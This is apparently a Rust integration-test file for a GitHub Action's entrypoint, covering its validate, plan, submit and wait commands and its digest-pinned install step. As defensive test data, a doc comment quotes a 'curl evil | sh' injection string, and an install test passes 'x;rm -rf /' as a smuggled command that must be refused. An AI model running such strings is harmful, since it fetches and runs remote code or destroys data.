//! The GitHub Action's entrypoint (`acp action`), run as action.yml runs it:
//! INPUT_* and GITHUB_* environment, real event payloads (tests/events/),
//! GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files, a checkout with an origin;
//! GitHub is a request-asserting fake (wiremock), the dashboard is real, and
//! `wait` runs against the real git-sync, operator and dashboard.

mod common;

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use acp_api::session::SessionPhase;
use acp_testenv::bench::free_port;
use acp_testenv::eventually;
use acp_testenv::githttp::git;
use acp_testenv::model::Step;
use acp_testenv::proc::{Killed, curl};
use kube::ResourceExt as _;
use serde_json::json;
use wiremock::matchers::{any, body_string_contains, header_exists, method, path, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};

const SESSION: &str = "apiVersion: vteam.ambient-code/v1alpha1\nkind: AgenticSession\nmetadata:\n  name: NAME\nspec:\n  initialPrompt: PROMPT\n  repos:\n  - url: https://github.com/acme/webapp.git\n";

fn session(name: &str, prompt: &str) -> String {
    SESSION.replace("NAME", name).replace("PROMPT", prompt)
}

/// A checkout of `acme/sessions` with an origin: base commit A
/// (fix-login.yaml), head commit B (fix-login.yaml changed, new-session.yaml).
struct Checkout {
    _dir: tempfile::TempDir,
    work: PathBuf,
    origin: PathBuf,
    base: String,
    head: String,
    files: PathBuf,
}

fn commit(work: &Path, message: &str) -> String {
    git(work, &["add", "-A"]);
    git(work, &["-c", "user.name=Dev", "-c", "user.email=dev@example.invalid", "commit", "-qm", message]);
    git(work, &["rev-parse", "HEAD"]).trim().to_owned()
}

fn checkout() -> Checkout {
    let dir = tempfile::tempdir().expect("tempdir");
    let origin = dir.path().join("origin.git");
    let work = dir.path().join("work");
    git(dir.path(), &["init", "-q", "--bare", "-b", "main", origin.to_str().expect("utf-8")]);
    git(dir.path(), &["init", "-q", "-b", "main", work.to_str().expect("utf-8")]);
    git(&work, &["remote", "add", "origin", origin.to_str().expect("utf-8")]);
    std::fs::create_dir_all(work.join("sessions")).expect("dir");
    std::fs::write(work.join("sessions/fix-login.yaml"), session("fix-login", "Fix the login"))
        .expect("write");
    let base = commit(&work, "base");
    std::fs::write(work.join("sessions/fix-login.yaml"), session("fix-login", "Fix the login redirect loop"))
        .expect("write");
    std::fs::write(work.join("sessions/new-session.yaml"), session("new-session", "Write docs"))
        .expect("write");
    let head = commit(&work, "head");
    git(&work, &["push", "-q", "origin", "main"]);
    let files = dir.path().join("files");
    std::fs::create_dir_all(&files).expect("files dir");
    Checkout { _dir: dir, work, origin, base, head, files }
}

/// What one run of the entrypoint left behind.
struct Run {
    code: i32,
    stdout: String,
    outputs: BTreeMap<String, String>,
    summary: String,
}

fn parse_outputs(text: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        if let Some((name, delimiter)) = line.split_once("<<") {
            let value: Vec<&str> = lines.by_ref().take_while(|l| *l != delimiter).collect();
            out.insert(name.to_owned(), value.join("\n"));
        }
    }
    out
}

impl Checkout {
    /// The entrypoint with the environment a runner gives it for `event`.
    fn command(&self, event: &str, inputs: &[(&str, &str)], api: &str) -> Command {
        let payload = std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/events/{event}.json")),
        )
        .expect("event payload")
        .replace("BASE_SHA", &self.base)
        .replace("HEAD_SHA", &self.head);
        let event_path = self.files.join(format!("{event}.json"));
        std::fs::write(&event_path, payload).expect("payload");
        for file in ["output", "summary"] {
            std::fs::write(self.files.join(file), "").expect("reset");
        }
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_acp"));
        cmd.arg("action")
            .current_dir(&self.work)
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_EVENT_NAME", event)
            .env("GITHUB_EVENT_PATH", &event_path)
            .env("GITHUB_WORKSPACE", &self.work)
            .env("GITHUB_REPOSITORY", "acme/sessions")
            .env("GITHUB_API_URL", api)
            .env("GITHUB_SHA", &self.head)
            .env("GITHUB_REF", "refs/heads/main")
            .env("GITHUB_REF_NAME", "main")
            .env("GITHUB_RUN_ID", "9876543210")
            .env("GITHUB_OUTPUT", self.files.join("output"))
            .env("GITHUB_STEP_SUMMARY", self.files.join("summary"))
            .env("INPUT_PATH", "sessions")
            .env("INPUT_NAMESPACE", "default")
            .env("INPUT_GITHUB_TOKEN", "ghs_test_token")
            .env_remove("KUBECONFIG");
        for (k, v) in inputs {
            cmd.env(k, v);
        }
        cmd
    }

    fn finish(&self, out: std::process::Output) -> Run {
        Run {
            code: out.status.code().unwrap_or(-1),
            stdout: format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
            outputs: parse_outputs(&std::fs::read_to_string(self.files.join("output")).unwrap_or_default()),
            summary: std::fs::read_to_string(self.files.join("summary")).unwrap_or_default(),
        }
    }

    fn run(&self, event: &str, inputs: &[(&str, &str)], api: &str) -> Run {
        self.finish(self.command(event, inputs, api).output().expect("acp action runs"))
    }
}

#[test]
fn validate_annotates_the_files_of_a_pull_request() {
    let repo = checkout();
    let clean = repo.run("pull_request", &[("INPUT_COMMAND", "validate")], "http://127.0.0.1:9");
    assert_eq!(clean.code, 0, "{}", clean.stdout);
    assert_eq!(clean.outputs.get("errors").map(String::as_str), Some("0"));
    std::fs::write(
        repo.work.join("sessions/bad.yaml"),
        session("bad", "x").replace("  repos:", "  promt: typo\n  repos:"),
    )
    .expect("write");
    let bad = repo.run("pull_request", &[("INPUT_COMMAND", "validate")], "http://127.0.0.1:9");
    assert_eq!(bad.code, 1, "{}", bad.stdout);
    assert!(bad.stdout.contains("::error file=sessions/bad.yaml,line=7,"), "{}", bad.stdout);
    assert_eq!(bad.outputs.get("errors").map(String::as_str), Some("1"));
    assert!(bad.summary.contains("### acp validate"));
}

#[tokio::test(flavor = "multi_thread")]
async fn plan_comments_on_the_pull_request_and_edits_it_in_place() {
    let repo = checkout();
    let github = MockServer::start().await;
    let comments = "/repos/acme/sessions/issues/7/comments";
    // First run: no plan comment yet, so one is created.
    Mock::given(method("GET"))
        .and(path(comments))
        .and(query_param("page", "1"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!([{"id": 1, "body": "LGTM"}])))
        .up_to_n_times(1)
        .expect(1)
        .mount(&github)
        .await;
    Mock::given(method("POST"))
        .and(path(comments))
        .and(header_exists("authorization"))
        .and(body_string_contains("<!-- acp:plan -->"))
        .and(body_string_contains("1 to create, 1 to update, 0 to prune"))
        .and(body_string_contains("new-session"))
        .respond_with(ResponseTemplate::new(201).set_body_json(json!({"id": 99, "body": "…"})))
        .expect(1)
        .mount(&github)
        .await;
    let first = repo.run("pull_request", &[("INPUT_COMMAND", "plan")], &github.uri());
    assert_eq!(first.code, 0, "{}", first.stdout);
    assert_eq!(first.outputs.get("create").map(String::as_str), Some("1"));
    assert!(first.summary.contains(&format!("against `{}`", &repo.base[..12])), "{}", first.summary);

    // Second run: the comment is found by its marker and edited, not duplicated.
    Mock::given(method("GET"))
        .and(path(comments))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(
                json!([{"id": 1, "body": "LGTM"}, {"id": 98, "user": {"login": "mallory"}, "body": "<!-- acp:plan -->\nfake"}, {"id": 99, "user": {"login": "github-actions[bot]"}, "body": "<!-- acp:plan -->\nold"}]),
            ),
        )
        .expect(1)
        .mount(&github)
        .await;
    Mock::given(method("PATCH"))
        .and(path("/repos/acme/sessions/issues/comments/99"))
        .and(body_string_contains("<!-- acp:plan -->"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"id": 99})))
        .expect(1)
        .mount(&github)
        .await;
    let second = repo.run("pull_request", &[("INPUT_COMMAND", "plan")], &github.uri());
    assert_eq!(second.code, 0, "{}", second.stdout);
    github.verify().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn plan_on_push_reports_in_the_summary_without_calling_github() {
    let repo = checkout();
    let github = MockServer::start().await;
    Mock::given(any()).respond_with(ResponseTemplate::new(500)).expect(0).mount(&github).await;
    let run = repo.run("push", &[("INPUT_COMMAND", "plan")], &github.uri());
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert!(run.summary.contains("1 to create, 1 to update"), "{}", run.summary);
    github.verify().await;
}

#[test]
fn submit_commits_a_valid_session_from_workflow_dispatch_inputs() {
    let repo = checkout();
    let inputs = [
        ("INPUT_COMMAND", "submit"),
        ("INPUT_PROMPT", "Update the README's install section for the new CLI flags"),
        ("INPUT_REPOS", "https://github.com/acme/webapp.git@main push\nhttps://github.com/acme/docs.git"),
        ("INPUT_MODEL", "claude-sonnet-4-5"),
        ("INPUT_TIMEOUT", "1800"),
        ("INPUT_DISPLAY_NAME", "README refresh"),
        ("INPUT_NAME", ""),
    ];
    let run = repo.run("workflow_dispatch", &inputs, "http://127.0.0.1:9");
    assert_eq!(run.code, 0, "{}", run.stdout);
    let name = run.outputs.get("session-name").cloned().expect("session-name output");
    assert_eq!(name, "update-the-readme-s-install-9876543210");
    let file = format!("sessions/{name}.yaml");
    assert_eq!(run.outputs.get("file"), Some(&file));
    // The commit reached origin's main, and the manifest is what the inputs said.
    let pushed = git(&repo.origin, &["show", &format!("main:{file}")]);
    let manifest: serde_json::Value = serde_saphyr::from_str(&pushed).expect("YAML");
    assert_eq!(
        manifest["spec"]["repos"][0],
        json!({"url": "https://github.com/acme/webapp.git", "branch": "main", "autoPush": true})
    );
    assert_eq!(manifest["spec"]["timeout"], 1800);
    assert_eq!(manifest["spec"]["llmSettings"]["model"], "claude-sonnet-4-5");
    let author = git(&repo.origin, &["log", "-1", "--format=%an", "main"]);
    assert_eq!(author.trim(), "github-actions[bot]");
    let validated = Command::new(env!("CARGO_BIN_EXE_acp"))
        .args(["validate"])
        .arg(repo.work.join(&file))
        .output()
        .expect("validate");
    assert!(validated.status.success(), "{}", String::from_utf8_lossy(&validated.stdout));

    // Inputs that break a policy are refused before anything is committed.
    let before = git(&repo.origin, &["rev-parse", "main"]);
    let bad = repo.run(
        "workflow_dispatch",
        &[
            ("INPUT_COMMAND", "submit"),
            ("INPUT_PROMPT", "x"),
            ("INPUT_NAME", "too-short"),
            ("INPUT_TIMEOUT", "5"),
        ],
        "http://127.0.0.1:9",
    );
    assert_eq!(bad.code, 1, "{}", bad.stdout);
    assert!(bad.stdout.contains("::error file=sessions/too-short.yaml"), "{}", bad.stdout);
    assert_eq!(git(&repo.origin, &["rev-parse", "main"]), before, "nothing pushed");
    assert!(!repo.work.join("sessions/too-short.yaml").exists());
}

/// `wait` on a commit against the real chain: git-sync applies the sessions
/// (labelling each with the commit that last changed its file), the operator
/// runs them (process executor, real runner and CLI, scripted model), the
/// dashboard serves them. "second" stays running while the scripted model
/// answers it "overloaded" (the CLI retries), so the action polls; "broken"
/// came from an older commit and is not waited for.
#[tokio::test(flavor = "multi_thread")]
async fn wait_polls_the_dashboard_until_the_sessions_of_a_commit_end() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    let open = Arc::new(AtomicBool::new(false));
    let gate = open.clone();
    let responder: acp_testenv::model::Responder = Arc::new(move |body: &serde_json::Value| {
        let text = body.to_string();
        if text.contains("task broken") {
            Step::error(400, "invalid_request_error", "scripted failure of broken")
        } else if text.contains("task second") && !gate.load(Ordering::SeqCst) {
            Step::error(529, "overloaded_error", "Overloaded")
        } else if text.contains("task second") {
            Step::text("second summary")
        } else {
            Step::text("first summary")
        }
    });
    let mut stack = common::Stack::new("action-wait", responder).await;
    let ns = stack.ns.name.clone();
    let older =
        stack.commit(&[("sessions/broken.yaml", Some(&common::session("broken", "task broken")))], "broken");
    let head = stack.commit(
        &[
            ("sessions/first.yaml", Some(&common::session("first", "task first"))),
            ("sessions/second.yaml", Some(&common::session("second", "task second"))),
        ],
        "first and second",
    );
    stack.start(common::Component::GitSync, "a");
    stack.start(common::Component::Operator, "a");
    stack.create_source().await;
    let phase = |s: &acp_api::AgenticSession| s.status.as_ref().and_then(|st| st.phase);
    stack
        .wait_session("first", "Completed", Duration::from_secs(120), |s| {
            phase(s) == Some(SessionPhase::Completed)
        })
        .await;
    stack
        .wait_session("broken", "Failed", Duration::from_secs(120), |s| {
            phase(s) == Some(SessionPhase::Failed)
        })
        .await;
    let second = stack
        .wait_session("second", "Running", Duration::from_secs(120), |s| {
            phase(s) == Some(SessionPhase::Running)
        })
        .await;
    assert_eq!(second.labels().get("ambient-code.io/source-commit"), Some(&head), "git-sync's label");

    let port = free_port();
    let _dashboard = Killed(
        Command::new(env!("CARGO_BIN_EXE_acp"))
            .args([
                "dashboard",
                "--auth",
                "none",
                "--namespace",
                &ns,
                "--listen",
                &format!("127.0.0.1:{port}"),
                "--metrics-addr",
                &format!("127.0.0.1:{}", free_port()),
            ])
            .env("KUBECONFIG", stack.env.kubeconfig())
            .env("RUST_LOG", "warn")
            .spawn()
            .expect("dashboard"),
    );
    let url = format!("http://127.0.0.1:{port}");
    eventually("the dashboard", Duration::from_secs(30), || async {
        let ok = curl(&format!("{url}/readyz"), &[]).is_some();
        ok.then_some(())
    })
    .await;

    // Waiting on the commit: one session still runs, so the action polls.
    let mut repo = checkout();
    repo.head = head.clone();
    assert_ne!(older, head);
    let inputs = [
        ("INPUT_COMMAND", "wait"),
        ("INPUT_DASHBOARD_URL", url.as_str()),
        ("INPUT_POLL_SECONDS", "1"),
        ("INPUT_WAIT_TIMEOUT", "120"),
    ];
    let mut action =
        repo.command("push", &inputs, "http://127.0.0.1:9").stdout(Stdio::piped()).spawn().expect("action");
    let mut lines = BufReader::new(action.stdout.take().expect("stdout")).lines();
    let first = lines.next().and_then(Result::ok).unwrap_or_default();
    assert!(
        first.starts_with("waiting for the sessions of"),
        "the action waits while a session runs: {first}"
    );
    open.store(true, Ordering::SeqCst);
    let rest: Vec<String> = lines.map_while(Result::ok).collect();
    let out = action.wait_with_output().expect("action ends");
    let run = repo.finish(out);
    assert_eq!(run.code, 0, "{first}\n{}", rest.join("\n"));
    assert_eq!(run.outputs.get("session-phase").map(String::as_str), Some("Completed"));
    let names = run.outputs.get("session-name").cloned().unwrap_or_default();
    assert!(names.contains("first") && names.contains("second") && !names.contains("broken"), "{names}");
    let result: serde_json::Value = serde_json::from_str(&run.outputs["session-result"]).expect("JSON list");
    assert_eq!(result.as_array().map(Vec::len), Some(2));
    assert!(run.outputs["session-result"].contains("second summary"), "{}", run.outputs["session-result"]);

    // Waiting on one named session that failed: its phase and why, and a failed step.
    let named = [
        ("INPUT_COMMAND", "wait"),
        ("INPUT_DASHBOARD_URL", url.as_str()),
        ("INPUT_SESSION", &format!("{ns}/broken")),
    ];
    let run = repo.run("workflow_dispatch", &named, "http://127.0.0.1:9");
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert_eq!(run.outputs.get("session-name").map(String::as_str), Some("broken"));
    assert_eq!(run.outputs.get("session-phase").map(String::as_str), Some("Failed"));
    let why = run.outputs.get("session-result").cloned().unwrap_or_default();
    assert!(why.contains("scripted failure of broken"), "{why}");
    assert!(run.summary.contains("| `broken` | Failed |"), "{}", run.summary);
}

/// No input reaches a `run:` script by interpolation (an input such as
/// `"; curl evil | sh; "` would run); every step takes inputs from `env:`.
#[test]
fn action_inputs_reach_scripts_only_through_the_environment() {
    let text = std::fs::read_to_string(acp_testenv::env::repo_root().join("action.yml")).expect("action.yml");
    let action: serde_json::Value = serde_saphyr::from_str(&text).expect("action.yml is YAML");
    let steps = action["runs"]["steps"].as_array().expect("steps");
    assert!(!steps.is_empty());
    for step in steps {
        let run = step["run"].as_str().unwrap_or_default();
        assert!(!run.contains("${{"), "a run: script interpolates an expression: {run}");
        let name = step["name"].as_str().unwrap_or_default();
        assert!(!name.contains("inputs."), "a step name interpolates an input: {name}");
    }
}

/// The install step takes the image only pinned by digest, and copies the
/// binary out of exactly that reference (docker is played by a script that
/// records its arguments: there is no Docker engine here).
#[test]
fn the_action_installs_acp_only_from_an_image_pinned_by_digest() {
    let root = acp_testenv::env::repo_root();
    let tmp = tempfile::tempdir().expect("tmp");
    let bin = tmp.path().join("bin");
    std::fs::create_dir_all(&bin).expect("bin");
    let calls = tmp.path().join("docker-calls");
    std::fs::write(
        bin.join("docker"),
        format!(
            "#!/bin/sh\necho \"$@\" >> {}\ncase $1 in create) echo c0ffee ;; cp) printf '#!/bin/sh\\n' > \"$3\"; chmod +x \"$3\" ;; esac\n",
            calls.display()
        ),
    )
    .expect("fake docker");
    std::process::Command::new("chmod").arg("+x").arg(bin.join("docker")).status().expect("chmod");
    let install = |image: &str| {
        std::process::Command::new("bash")
            .arg(root.join("hack/action-install"))
            .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default()))
            .env("ACP_IMAGE", image)
            .env("ACP_ACTION_PATH", &root)
            .env("RUNNER_TEMP", tmp.path())
            .env("GITHUB_PATH", tmp.path().join("github-path"))
            .output()
            .expect("install runs")
    };
    for unpinned in ["ghcr.io/acp-dev/acp:0.1.0", "ghcr.io/acp-dev/acp:latest", "x;rm -rf /", ""] {
        let out = install(unpinned);
        assert!(!out.status.success(), "{unpinned:?} was accepted");
        assert!(String::from_utf8_lossy(&out.stderr).contains("pinned by digest"), "{unpinned:?}");
    }
    assert!(!calls.exists(), "docker was never called for an unpinned image");
    let pinned = format!("ghcr.io/acp-dev/acp@sha256:{}", "ab".repeat(32));
    let out = install(&pinned);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let recorded = std::fs::read_to_string(&calls).expect("docker calls");
    assert!(recorded.starts_with(&format!("create {pinned}\n")), "{recorded}");
    let path = std::fs::read_to_string(tmp.path().join("github-path")).expect("GITHUB_PATH");
    assert!(path.trim().ends_with(&format!("acp-{}", "ab".repeat(32))), "{path}");
}
